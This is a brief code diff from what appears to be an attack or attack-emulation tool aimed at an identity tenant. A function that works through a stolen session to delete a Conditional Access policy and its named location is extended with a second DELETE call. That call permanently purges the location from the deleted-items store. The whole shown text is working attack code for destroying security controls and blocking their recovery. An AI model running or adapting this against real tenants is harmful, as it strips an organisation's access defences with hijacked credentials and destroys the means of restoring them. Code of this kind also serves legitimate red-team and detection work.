@@ -162,9 +162,10 @@ def delete_policy_and_location(session: StolenSession, _user: str) -> AttackStep
     if location.get("isTrusted"):
         session.send("PATCH", path, {"@odata.type": location["@odata.type"], "isTrusted": False})
     session.send("DELETE", path)
+    session.send("DELETE", f"/identity/conditionalAccess/deletedItems/namedLocations/{location['id']}")
     return AttackStep(
         3,
-        f"Deleted '{policy['displayName']}' and its location '{location['displayName']}'",
+        f"Deleted '{policy['displayName']}', and '{location['displayName']}', its location, for good",
         {"conditionalAccessPolicy": policy["id"], "namedLocation": location["id"]},
     )
 
